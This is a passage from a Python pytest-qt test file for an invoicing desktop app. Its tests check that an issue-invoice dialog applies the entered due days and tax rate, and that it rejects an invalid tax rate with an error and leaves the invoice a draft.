    dialog = _open_issue_dialog(qtbot, tab)
    dialog.due_days.selectAll()
    qtbot.keyClicks(dialog.due_days, "14")
    dialog.tax_rate.selectAll()
    qtbot.keyClicks(dialog.tax_rate, "5")
    click(qtbot, dialog.ok_button)
    qtbot.waitUntil(lambda: invoices.row_for(draft.id).number == number, timeout=5000)
    issued = desk.invoices.get(draft.id)
    assert issued.due_date == today() + timedelta(days=14) and issued.tax_rate == 5


def test_a_bad_tax_rate_is_said_in_the_issue_dialog_and_issues_nothing(qtbot, fctx, desk, fake):
    tab, _invoices, draft = _draft_selected(qtbot, fctx, desk)
    dialog = _open_issue_dialog(qtbot, tab)
    dialog.tax_rate.selectAll()
    qtbot.keyClicks(dialog.tax_rate, "lots")
    click(qtbot, dialog.ok_button)
    qtbot.waitUntil(lambda: dialog.error.isVisible(), timeout=5000)
    assert dialog.isVisible() and dialog.tax_rate.text() == "lots"
    assert desk.invoices.get(draft.id).status == "draft"
    dialog.reject()
